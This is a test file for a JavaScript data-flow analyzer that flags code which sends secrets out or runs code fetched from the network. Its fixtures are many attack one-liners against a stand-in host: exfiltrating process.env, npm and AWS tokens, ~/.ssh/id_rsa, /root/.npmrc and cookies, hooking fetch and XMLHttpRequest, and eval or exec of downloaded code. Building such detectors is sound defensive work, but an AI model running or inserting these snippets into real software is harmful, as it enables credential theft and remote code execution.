import { describe, expect, test } from 'vitest'
import { flows, type Source } from '../../support/javascript.ts'

const away = 'https://collect.example.invalid/in'
const host = 'collect.example.invalid'

/** Async functions, generators and classes as compilers write them for engines that know none. */
const compiled: readonly (readonly [compiler: string, code: Source, flow: string])[] = [
  ['TypeScript, ES2015', `var __awaiter = (this && this.__awaiter) || function (o, a, P, g) { return new (P || (P = Promise))(function (y, n) { (g = g.apply(o, a || [])).next() }) }
function all() { return __awaiter(this, void 0, void 0, function* () { return process.env }) }
function run() { return __awaiter(this, void 0, void 0, function* () { const e = yield all(); yield fetch('${away}', { body: JSON.stringify(e) }) }) }
run()`, 'env-all → network'],
  ['TypeScript, ES5', `function all() { return tslib_1.__awaiter(this, void 0, void 0, function () { return tslib_1.__generator(this, function (_a) { return [2 /*return*/, process.env] }) }) }
function run() { return tslib_1.__awaiter(this, void 0, void 0, function () { var e; return tslib_1.__generator(this, function (_a) { switch (_a.label) {
  case 0: return [4 /*yield*/, all()]
  case 1: e = _a.sent(); return [4 /*yield*/, fetch('${away}', { body: JSON.stringify(e) })]
  case 2: _a.sent(); return [2 /*return*/] } }) }) }
run()`, 'env-all → network'],
  ['TypeScript, ES5, minified', `function l(){return o(this,void 0,void 0,function(){return i(this,function(t){return[2,process.env]})})}!function(){o(this,void 0,void 0,function(){var e;return i(this,function(t){switch(t.label){case 0:return[4,l()];case 1:return e=t.sent(),[4,fetch('${away}',{body:JSON.stringify(e)})];case 2:return t.sent(),[2]}})})}()`, 'env-all → network'],
  ['Babel', `function all() { return _all.apply(this, arguments) }
function _all() { _all = _asyncToGenerator(_regenerator().m(function _callee() { return _regenerator().w(function (_context) { while (1) switch (_context.n) { case 0: return _context.a(2, process.env) } }, _callee) })); return _all.apply(this, arguments) }
function run() { return _run.apply(this, arguments) }
function _run() { _run = _asyncToGenerator(_regenerator().m(function _callee2() { var e; return _regenerator().w(function (_context2) { while (1) switch (_context2.n) {
  case 0: _context2.n = 1; return all()
  case 1: e = _context2.v; _context2.n = 2; return fetch('${away}', { body: JSON.stringify(e) })
  case 2: return _context2.a(2) } }, _callee2) })); return _run.apply(this, arguments) }
run()`, 'env-all → network'],
  ['Babel before 7.27', `var all = (0, _asyncToGenerator2.default)(regeneratorRuntime.mark(function _callee() { return regeneratorRuntime.wrap(function _callee$(_context) { while (1) switch (_context.prev = _context.next) { case 0: return _context.abrupt('return', process.env); case 1: case 'end': return _context.stop() } }, _callee) }))
regeneratorRuntime.mark(function _callee2() { var e; return regeneratorRuntime.wrap(function _callee2$(_context2) { while (1) switch (_context2.prev = _context2.next) {
  case 0: _context2.next = 2; return all()
  case 2: e = _context2.sent; _context2.next = 5; return fetch('${away}', { body: JSON.stringify(e) })
  case 5: case 'end': return _context2.stop() } }, _callee2) })`, 'env-all → network'],
  ['esbuild', `var __async = (a, b, g) => new Promise((y, n) => { var step = x => x.done ? y(x.value) : Promise.resolve(x.value).then(step); step((g = g.apply(a, b)).next()) })
class A { all() { return __async(this, null, function* () { return process.env }) } run() { return __async(this, null, function* () { const e = yield this.all(); return fetch('${away}', { body: JSON.stringify(e) }) }) } }
new A().run()`, 'env-all → network'],
  ['swc', `class A { all() { return _async_to_generator(function* () { return process.env })() } run() { return _async_to_generator(function* () { const e = yield this.all(); return fetch('${away}', { body: JSON.stringify(e) }) }).call(this) } }`, 'env-all → network'],
  ['swc, ES5', `var A = function () { function A() { _class_call_check._(this, A) } _create_class._(A, [{ key: 'all', value: function all() { return process.env } }, { key: 'run', value: function run() { fetch('${away}', { body: JSON.stringify(this.all()) }) } }]); return A }()
new A().run()`, 'env-all → network'],
  ['Babel, classes', `var A = function () { return _createClass(function A() {}, [{ key: 'x', value: 1 }]) }()
var B = function () { function B() {} return _createClass(B, [{ key: 'all', value: function () { var _all = _asyncToGenerator(_regenerator().m(function _callee() { return _regenerator().w(function (_context) { while (1) switch (_context.n) { case 0: return _context.a(2, process.env) } }, _callee) })); return function all() { return _all.apply(this, arguments) } }() },
  { key: 'run', value: function run() { fetch('${away}', { body: JSON.stringify(this.all()) }) } }]) }()`, 'env-all → network'],
  ['prototypes', `function A() {} A.prototype.all = function () { return process.env }; A.prototype.run = function () { fetch('${away}', { body: JSON.stringify(this.all()) }) }; new A().run()`, 'env-all → network'],
  ['prototypes by another name', `function A() {} var p = A.prototype; p.all = function () { return process.env }; p.run = function () { fetch('${away}', { body: JSON.stringify(this.all()) }) }; new A().run()`, 'env-all → network'],
  ['a base class of CoffeeScript', `function B() {} B.prototype.all = function () { return process.env }; function A() {} extend(A, B); A.prototype.run = function () { fetch('${away}', { body: JSON.stringify(A.__super__.all.call(this)) }) }`, 'env-all → network'],
  ['a base class of old engines', `function B() {} B.prototype.all = function () { return process.env }; function A() {} _inherits(A, B); A.prototype.run = function () { fetch('${away}', { body: JSON.stringify(this.all()) }) }`, 'env-all → network'],
  ['generators, ES5', `function parts() { var k; return _ts_generator(this, function (s) { switch (s.label) { case 0: return [4, process.env]; case 1: s.sent(); return [2] } }) } fetch('${away}', { body: JSON.stringify(_to_consumable_array(parts())) })`, 'env-all → network'],
  ['objects put together', `var o = _objectSpread(_objectSpread({}, { a: 1 }), process.env); fetch('${away}', { body: JSON.stringify(o) })`, 'env-all → network'],
  ['none: super', `class B { constructor(u) { this.u = u } send(d) { fetch(this.u, { body: JSON.stringify(d) }) } } class A extends B { run() { super.send(process.env) } } new A('${away}').run()`, 'env-all → network'],
]

const secrets: readonly (readonly [code: Source, flow: string])[] = [
  [`const send = x => fetch('${away}', { body: x }); const m = new Map([['a', send]]); const f = m.get(word); f && f.call(null, JSON.stringify(process.env))`, 'env-all → network'],
  [`class A { constructor() { this.t = { s: this.s } } s(x) { fetch('${away}', { body: x }) } go(k) { const f = this.t[k]; f(JSON.stringify(process.env)) } }`, 'env-all → network'],
  [`import { Client } from 'undici'; new Client('${away}').request({ path: '/', method: 'POST', body: JSON.stringify(process.env) })`, 'env-all → network'],
  [`const m = new Map(Object.entries(process.env)); fetch('${away}', { body: JSON.stringify([...m]) })`, 'env-all → network'],
  [`const { EventEmitter } = require('events'); const e = new EventEmitter(); e.on('a', x => fetch('${away}', { body: JSON.stringify(x) })); e.emit('a', process.env)`, 'env-all → network'],
  [`require('fs').writeFileSync('/tmp/lamp', JSON.stringify(process.env)); fetch('${away}', { body: require('fs').readFileSync('/tmp/lamp') })`, 'env-all → network'],
  [`class A { #q = []; add(x) { this.#q.push(x) } send() { fetch('${away}', { body: JSON.stringify(this.#q) }) } } const a = new A(); a.add(process.env); a.send()`, 'env-all → network'],
  [`class A { constructor() { this.d = {} } fill() { for (const k in process.env) this.d[k] = process.env[k] } send() { fetch('${away}', { body: JSON.stringify(this.d) }) } } const a = new A(); a.fill(); a.send()`, 'env-all → network'],
  [`const o = {}; Object.assign(o, process.env); fetch('${away}', { body: JSON.stringify(o) })`, 'env-all → network'],
  [`const c = require(require('os').homedir() + '/.aws/credentials.json'); fetch('${away}', { body: JSON.stringify(c) })`, 'credential-file → network'],
  [`function* f() { for (const k in process.env) yield process.env[k] } fetch('${away}', { body: [...f()].join() })`, 'env-all → network'],
  [`const o = Object.keys(process.env).filter(k => /KEY/.test(k)).reduce((a, k) => ({ ...a, [k]: process.env[k] }), {}); fetch('${away}', { body: JSON.stringify(o) })`, 'env-all → network'],
  [`var n = (f, m) => () => (m || f((m = { exports: {} }).exports, m), m.exports); var a = n((e, m) => { m.exports = () => process.env }); var b = n((e, m) => { m.exports = d => fetch('${away}', { body: JSON.stringify(d) }) }); b()(a()())`, 'env-all → network'],
  [`fetch('${away}', { method: 'POST', body: JSON.stringify(process.env) })`, 'env-all → network'],
  [`fetch('${away}?' + new URLSearchParams(process.env))`, 'env-all → network'],
  [`const e = process.env; fetch('${away}', { body: JSON.stringify({ e }) })`, 'env-all → network'],
  [`const { env } = process; fetch('${away}', { body: JSON.stringify({ ...env }) })`, 'env-all → network'],
  [`const { env: { ...all } } = process; fetch('${away}', { body: JSON.stringify(all) })`, 'env-all → network'],
  [`import { env } from 'process'; fetch('${away}', { body: JSON.stringify(env) })`, 'env-all → network'],
  [`fetch('${away}', { body: JSON.stringify(process['e' + 'nv']) })`, 'env-all → network'],
  [`fetch('${away}', { body: JSON.stringify(Object.entries(process.env)) })`, 'env-all → network'],
  [`fetch('${away}', { body: Object.entries(process.env).map(([k, v]) => k + '=' + v).join('&') })`, 'env-all → network'],
  [`let s = ''; for (const k in process.env) s += k + process.env[k]; fetch('${away}', { body: s })`, 'env-all → network'],
  [`const o = {}; for (const k of Object.keys(process.env)) o[k] = process.env[k]; fetch('${away}', { body: JSON.stringify(o) })`, 'env-all → network'],
  [`const l = []; for (const [k, v] of Object.entries(process.env)) l.push(v); fetch('${away}', { body: l.join() })`, 'env-all → network'],
  [`fetch('${away}', { body: Buffer.from(JSON.stringify(process.env)).toString('base64') })`, 'env-all → network'],
  [`fetch('${away}', { body: require('zlib').gzipSync(JSON.stringify(process.env)) })`, 'env-all → network'],
  [`const c = require('crypto').createCipheriv('a', k, i); fetch('${away}', { body: c.update(JSON.stringify(process.env)) })`, 'env-all → network'],
  [`const r = require('https').request({ host: '${host}' }); r.write(JSON.stringify(process.env)); r.end()`, 'env-all → network'],
  [`require('https').request('${away}', r => {}).end(JSON.stringify(process.env))`, 'env-all → network'],
  [`require('https').get('${away}?' + encodeURIComponent(JSON.stringify(process.env)))`, 'env-all → network'],
  [`require('net').connect(80, '${host}').write(JSON.stringify(process.env))`, 'env-all → network'],
  [`const s = new (require('net').Socket)(); s.connect(80, '${host}'); s.write(JSON.stringify(process.env))`, 'env-all → network'],
  [`const s = new WebSocket('wss://${host}'); s.onopen = () => s.send(JSON.stringify(process.env))`, 'env-all → network'],
  [`const x = new XMLHttpRequest(); x.open('POST', '${away}'); x.send(JSON.stringify(process.env))`, 'env-all → network'],
  [`navigator.sendBeacon('${away}', JSON.stringify(process.env))`, 'env-all → network'],
  [`require('axios').post('${away}', process.env)`, 'env-all → network'],
  [`require('axios')({ url: '${away}', data: { e: process.env } })`, 'env-all → network'],
  [`const a = require('axios').create({}); a.post('${away}', { e: process.env })`, 'env-all → network'],
  [`const f = new FormData(); f.append('a', JSON.stringify(process.env)); fetch('${away}', { body: f })`, 'env-all → network'],
  [`const f = new FormData(); f['append']('a', JSON.stringify(process.env)); fetch('${away}', { ['body']: f })`, 'env-all → network'],
  [`use(c => { const { headers: h } = c; fetch('${away}', { body: h.Authorization }) })`, 'intercepted → network'],
  [`use(c => { const h = c.headers; fetch('${away}', { body: h.Cookie }) })`, 'intercepted → network'],
  [`use(c => { const h = c.headers || {}; fetch('${away}', { body: h.cookie }) })`, 'intercepted → network'],
  [`const http = require('http'); const o = http.request; http.request = function (q) { fetch('${away}', { body: q.headers }); return o.call(this, q) }`, 'intercepted → network'],
  [`const o = fetch; fetch = function (u, i) { o('${away}', { body: JSON.stringify(i) }); return o(u, i) }`, 'intercepted → network'],
  [`const u = new URL('${away}'); u.searchParams.set('a', JSON.stringify(process.env)); fetch(u)`, 'env-all → network'],
  [`require('dns').lookup(process.env.USER + '.${host}', () => {})`, 'host → dns'],
  [`require('dns').resolve(Buffer.from(require('os').hostname()).toString('hex') + '.${host}', () => {})`, 'host → dns'],
  [`fetch('${away}', { body: require('os').hostname() })`, 'host → network'],
  [`const { hostname, userInfo } = require('os'); fetch('${away}', { body: JSON.stringify({ h: hostname(), u: userInfo().username }) })`, 'host → network'],
  [`fetch('${away}', { body: process.env.NPM_TOKEN })`, 'env-secret → network'],
  [`fetch('${away}', { headers: { a: 'Bearer ' + process.env['API_KEY'] } })`, 'env-secret → network'],
  [`const { AWS_SECRET_ACCESS_KEY: k } = process.env; fetch('${away}', { body: k })`, 'env-secret → network'],
  [`const names = ['NPM_TOKEN', 'GH_TOKEN']; fetch('${away}', { body: names.map(n => process.env[n]).join() })`, 'env-secret → network'],
  [`fetch('${away}', { body: require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa') })`, 'credential-file → network'],
  [`const fs = require('fs'); fs.readFile('/root/.npmrc', 'utf8', (e, t) => fetch('${away}', { body: t }))`, 'credential-file → network'],
  [`const fs = require('fs'); fs.promises.readFile('/root/.npmrc').then(t => fetch('${away}', { body: t }))`, 'credential-file → network'],
  [`const fs = require('fs'); const t = await fs.promises.readFile('/root/.npmrc'); await fetch('${away}', { body: t.toString() })`, 'credential-file → network'],
  [`const { promisify } = require('util'); const read = promisify(require('fs').readFile); read('/root/.npmrc').then(t => fetch('${away}', { body: t }))`, 'credential-file → network'],
  [`const fs = require('fs'); fs.createReadStream('/root/.npmrc').pipe(require('https').request({ host: '${host}' }))`, 'credential-file → network'],
  [`const fs = require('fs'); fs.createReadStream('/root/.npmrc').on('data', d => fetch('${away}', { body: d }))`, 'credential-file → network'],
  [`const fs = require('fs'); for (const p of ['/root/.npmrc', '/root/.netrc']) fetch('${away}', { body: fs.readFileSync(p) })`, 'credential-file → network'],
  [`fetch('${away}', { body: document.cookie })`, 'browser-secret → network'],
  [`const o = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { navigator.sendBeacon('${away}', b); return o.call(this, b) }`, 'intercepted → network'],
  [`class A { all() { return process.env } send() { fetch('${away}', { body: JSON.stringify(this.all()) }) } }`, 'env-all → network'],
  [`class A { constructor() { this.e = process.env } send() { fetch('${away}', { body: JSON.stringify(this.e) }) } }`, 'env-all → network'],
  [`const send = d => fetch('${away}', { body: d }); send(JSON.stringify(process.env))`, 'env-all → network'],
  [`const send = ({ d }) => fetch('${away}', { body: d }); send({ d: JSON.stringify(process.env) })`, 'env-all → network'],
  [`const collect = done => done(process.env); collect(e => fetch('${away}', { body: JSON.stringify(e) }))`, 'env-all → network'],
  [`new Promise(ok => ok(process.env)).then(e => fetch('${away}', { body: JSON.stringify(e) }))`, 'env-all → network'],
  [`Promise.all([1, process.env]).then(all => fetch('${away}', { body: JSON.stringify(all) }))`, 'env-all → network'],
  [`try { throw process.env } catch (e) { fetch('${away}', { body: JSON.stringify(e) }) }`, 'env-all → network'],
  [`const all = async () => process.env; const e = await all(); fetch('${away}', { body: JSON.stringify(e) })`, 'env-all → network'],
]

const answers: readonly (readonly [code: Source, flow: string])[] = [
  [`eval(await (await fetch('${away}')).text())`, 'response → code'],
  [`fetch('${away}').then(r => r.text()).then(eval)`, 'response → code'],
  [`fetch('${away}').then(r => r.json()).then(({ code }) => new Function(code)())`, 'response → code'],
  [`const { data } = await require('axios').get('${away}'); eval(data.name)`, 'response → code'],
  [`const { data: { message } } = await require('axios').get('${away}'); new Function('require', message)(require)`, 'response → code'],
  [`require('axios').get('${away}').catch(e => eval(e.response.data))`, 'response → code'],
  [`require('axios').get('${away}').then(r => {}, e => eval(e.response.data.code))`, 'response → code'],
  [`require('https').get('${away}', r => { let s = ''; r.on('data', d => s += d); r.on('end', () => eval(s)) })`, 'response → code'],
  [`require('https').get('${away}', r => { const l = []; r.on('data', d => l.push(d)); r.on('end', () => eval(Buffer.concat(l).toString())) })`, 'response → code'],
  [`require('https').get('${away}').on('response', r => r.on('data', d => eval(d.toString())))`, 'response → code'],
  [`eval(atob(await (await fetch('${away}')).text()))`, 'response → code'],
  [`require('vm').runInThisContext(await (await fetch('${away}')).text())`, 'response → code'],
  [`module._compile(await (await fetch('${away}')).text(), 'a')`, 'response → code'],
  [`const F = (() => {}).constructor; F(await (await fetch('${away}')).text())()`, 'response → code'],
  [`const run = t => eval(t); fetch('${away}').then(r => r.text()).then(run)`, 'response → code'],
  [`function run(t) { eval(t) } fetch('${away}').then(r => r.text().then(run))`, 'response → code'],
  [`function take(d) { eval(d.toString()) } require('net').connect(80, '${host}').on('data', take)`, 'response → code'],
  [`try { await require('axios').get('${away}') } catch (e) { eval(e.response.data) }`, 'response → code'],
  [`try { await require('axios').get('${away}') } catch ({ response: { data } }) { new Function('require', data)(require) }`, 'response → code'],
  [`import('data:text/javascript,' + await (await fetch('${away}')).text())`, 'response → code'],
  [`const s = new WebSocket('wss://${host}'); s.onmessage = e => eval(e.data)`, 'response → code'],
  [`const s = new WebSocket('wss://${host}'); s.addEventListener('message', ({ data }) => eval(data))`, 'response → code'],
  [`require('net').connect(80, '${host}').on('data', d => require('child_process').exec(d.toString()))`, 'response → exec'],
  [`fetch('${away}').then(r => r.text()).then(c => require('child_process').exec(c))`, 'response → exec'],
  [`const { c, a } = await (await fetch('${away}')).json(); require('child_process').spawn(c, a)`, 'response → exec'],
  [`require('dns').resolveTxt('${host}', (e, t) => eval(t.join('')))`, 'response → code'],
  [`require('fs').writeFileSync('a', await (await fetch('${away}')).text())`, 'response → file'],
  [`require('https').get('${away}', r => r.pipe(require('fs').createWriteStream('a')))`, 'response → file'],
  [`const x = new XMLHttpRequest(); x.onload = () => eval(x.responseText)`, 'response → code'],
  [`const got = require('got'); got('${away}').then(({ body }) => eval(body))`, 'response → code'],
  [`fetch('${away}').then(r => r.arrayBuffer()).then(k => { const s = Buffer.alloc(k.length); for (let i = 0; i < k.length; i++) s[i] = k[i] ^ 7; eval(s.toString()) })`, 'response → code'],
]

const linked: readonly (readonly [files: Readonly<Record<string, string>>, flow: string])[] = [
  [{ 'a.js': `require('./b').send(process.env)`, 'b.js': `exports.send = e => fetch('${away}', { body: JSON.stringify(e) })` }, 'env-all → network'],
  [{ 'a.js': `fetch('${away}', { body: JSON.stringify(require('./b').all()) })`, 'b.js': `exports.all = () => process.env` }, 'env-all → network'],
  [{ 'a.js': `fetch('${away}', { body: JSON.stringify(require('./b')) })`, 'b.js': `module.exports = { e: process.env }` }, 'env-all → network'],
  [{ 'a.js': `require('./b')(process.env)`, 'b.js': `module.exports = e => fetch('${away}', { body: JSON.stringify(e) })` }, 'env-all → network'],
  [{ 'a.mjs': `import { all } from './b.mjs'; import { send } from './c.mjs'; send(all())`, 'b.mjs': `export const all = () => process.env`, 'c.mjs': `export const send = e => fetch('${away}', { body: JSON.stringify(e) })` }, 'env-all → network'],
  [{ 'a.mjs': `import { send } from './b.mjs'; send(process.env)`, 'b.mjs': `export * from './c.mjs'`, 'c.mjs': `export async function send(e) { await fetch('${away}', { body: JSON.stringify(e) }) }` }, 'env-all → network'],
  [{ 'a.mjs': `import Tool from './b.mjs'; new Tool().send(process.env)`, 'b.mjs': `export default class { send(e) { fetch('${away}', { body: JSON.stringify(e) }) } }` }, 'env-all → network'],
  [{ 'a.js': `require('./b').load(eval)`, 'b.js': `exports.load = run => fetch('${away}').then(r => r.text()).then(t => run(t))` }, 'response → code'],
  [{ 'a.js': `require('./b').load().then(t => eval(t))`, 'b.js': `exports.load = async () => (await fetch('${away}')).text()` }, 'response → code'],
  [{ 'a.ts': `import { key } from './b'; fetch('${away}', { body: key })`, 'b.ts': `export const key: string = process.env.NPM_TOKEN!` }, 'env-secret → network'],
  [{ 'a.js': `require('./b').send(require('fs').readFileSync('/root/.npmrc'))`, 'b.js': `const https = require('https'); exports.send = d => { const r = https.request({ host: '${host}' }); r.end(d) }` }, 'credential-file → network'],
]

/** Where nothing travels. */
const apart: readonly string[] = [
  `const port = process.env.PORT; app.post('/in', () => port)`,
  `fetch('${away}?mode=' + process.env.NODE_ENV)`,
  `fetch('${away}', { body: JSON.stringify({ port: process.env.PORT }) })`,
  `console.log(process.env); fetch('${away}')`,
  `const e = process.env; const f = 1; fetch('${away}', { body: f })`,
  `const { PORT } = process.env; fetch('${away}', { body: PORT })`,
  `if (process.env.NPM_TOKEN) fetch('${away}')`,
  `fetch('${away}', { body: Object.keys(process.env).length + '' })`,
  `fetch('${away}', { body: require('os').platform() })`,
  `fetch('${away}', { body: require('fs').readFileSync('README.md') })`,
  `const t = await (await fetch('${away}')).text(); console.log(t)`,
  `const r = await fetch('${away}'); if (r.ok) eval('1')`,
  `const r = await fetch('${away}'); require('child_process').exec('echo ' + r.status)`,
  `const t = await (await fetch('${away}')).json(); eval('1'); JSON.parse(t)`,
  `fetch('${away}').then(r => r.text()).then(t => /a/.exec(t))`,
  `fetch('${away}').catch(e => console.log(e.message))`,
  `try { await fetch('${away}') } catch (e) { require('child_process').exec('echo ' + e.message) }`,
  `const s = new WebSocket('ws://localhost'); s.onmessage = e => console.log(e.data)`,
  `require('child_process').spawn('git', ['status'], { env: process.env })`,
  `const send = d => d; send(process.env); fetch('${away}', { body: send })`,
  `const o = { a: process.env, b: 1 }; fetch('${away}', { body: o.b })`,
  `const [a, b] = [process.env, 1]; fetch('${away}', { body: b })`,
  `class A { e = process.env; n = 1; send() { fetch('${away}', { body: this.n }) } }`,
  `function fetch() {} fetch('${away}', { body: JSON.stringify(process.env) })`,
  `const process = { env: {} }; fetch('${away}', { body: JSON.stringify(process.env) })`,
]

/** Flows that are still missed. A row that is found all of a sudden belongs into the tables above. */
const missed: readonly (readonly [code: Source, flow: string, why: string])[] = [
  [`process.env.PORT ? 1 : 0; let s = ''; if (process.env.NPM_TOKEN[0] === 'a') s = 'a'; fetch('${away}', { body: s })`, 'env-secret → network', 'What a branch tells of a secret is not followed.'],
]

const title = (source: Source): string => typeof source === 'string' ? source : Object.values(source).join(' | ')

describe('what leaves is found', () => {
  test.each(secrets.map(([source, flow]) => [title(source), source, flow] as const))('%s', async (_, source, flow) => expect(await flows(source)).toContain(flow))
})

describe('compiled code says what its source said', () => {
  test.each(compiled)('%s', async (_, source, flow) => expect(await flows(source)).toContain(flow))

  test.each([
    ['what was waited for elsewhere', `tslib_1.__awaiter(this, void 0, void 0, function () { var e, f; return tslib_1.__generator(this, function (_a) { switch (_a.label) { case 0: return [4, read()]; case 1: f = _a.sent(); return [4, fetch('${away}', { body: f })]; case 2: e = process.env; return [2] } }) })`],
    ['jumps are no waiting', `tslib_1.__generator(this, function (s) { switch (s.label) { case 0: e = process.env; return [3, 1]; case 1: fetch('${away}', { body: s.sent() }); return [2] } })`],
    ['a member called sent', `const mail = { sent: 1 }; const e = process.env; fetch('${away}', { body: JSON.stringify(mail.sent) })`],
    ['another class with the same method', `function A() {} A.prototype.all = function () { return process.env }; function B() {} B.prototype.all = function () { return 1 }; B.prototype.run = function () { fetch('${away}', { body: JSON.stringify(this.all()) }) }`],
  ])('and no more: %s', async (_, code) => expect(await flows(code)).toEqual([]))
})

describe('what is run is found', () => {
  test.each(answers.map(([source, flow]) => [title(source), source, flow] as const))('%s', async (_, source, flow) => expect(await flows(source)).toContain(flow))
})

describe('files between do not matter', () => {
  test.each(linked.map(([files, flow]) => [title(files), files, flow] as const))('%s', async (_, files, flow) => expect(await flows(files)).toContain(flow))
})

describe('what stays apart is no flow', () => {
  test.each(apart)('%s', async code => expect(await flows(code)).toEqual([]))
})

describe('is still missed', () => {
  test.each(missed.map(([source, flow, why]) => [why, source, flow] as const))('%s', async (_, source, flow) => expect(await flows(source)).not.toContain(flow))
})
